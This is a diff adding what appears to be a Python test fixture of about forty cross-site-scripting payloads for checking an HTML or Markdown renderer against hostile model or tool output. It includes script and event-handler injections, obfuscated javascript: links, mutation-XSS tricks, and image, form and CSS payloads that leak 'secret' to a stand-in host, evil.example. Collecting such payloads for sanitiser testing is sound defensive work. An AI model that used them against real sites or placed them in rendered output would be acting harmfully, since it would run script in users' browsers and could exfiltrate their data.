@@ -1,0 +1,48 @@
+"""What a hostile model, tool or file may say; RAN is called by whatever runs."""
+
+from __future__ import annotations
+
+RAN = "alert(1)"
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="https://evil.example/?q=secret">',
+    "<svg onload=alert(1)></svg>",
+    "<svg><script>alert(1)</script></svg>",
+    '<svg><a xlink:href="javascript:alert(1)"><text y="20">go</text></a></svg>',
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data="data:text/html,<script>alert(1)</script>"></object>',
+    '<embed src="https://evil.example/x.swf">',
+    '<form action="https://evil.example/"><input name=q><button>Send</button></form>',
+    '<style>@import "https://evil.example/x.css";body{display:none}</style>',
+    '<link rel=stylesheet href="https://evil.example/x.css">',
+    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
+    '<base href="https://evil.example/">',
+    '<math><mtext></p><style><img src="</style><img src=x onerror=alert(1)>">',
+    "<details open ontoggle=alert(1)>x</details>",
+    "<video><source onerror=alert(1)></video>",
+    '<div style="background:url(https://evil.example/x.png)" onmouseover=alert(1)>x</div>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "[go](javascript:alert(1))",
+    "[go](JaVaScRiPt:alert(1))",
+    "[go](java\tscript:alert(1))",
+    "[go](&#106;avascript:alert(1))",
+    "[go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[go](vbscript:alert(1))",
+    '[go](https://ok.example/" onclick="alert(1))',
+    "![leak](https://evil.example/?q=secret)",
+    "![leak](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
+    "[![leak](https://evil.example/i.png)](javascript:alert(1))",
+    "[go]: javascript:alert(1)\n\nSee [go].",
+    "<javascript:alert(1)>",
+    "```<img src=x onerror=alert(1)>\n<img src=x onerror=alert(1)>\n```",
+    '```"><script>alert(1)</script>\nx\n```',
+    "`<img src=x onerror=alert(1)>`",
+    "| <img src=x onerror=alert(1)> | b |\n| --- | --- |\n| <script>alert(1)</script> | 2 |",
+    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %> #{alert(1)}",
+    "</article></main></body><script>alert(1)</script>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<a href='javascript:alert(1)'>go</a> <a id=app name=body>clobber</a>",
+]
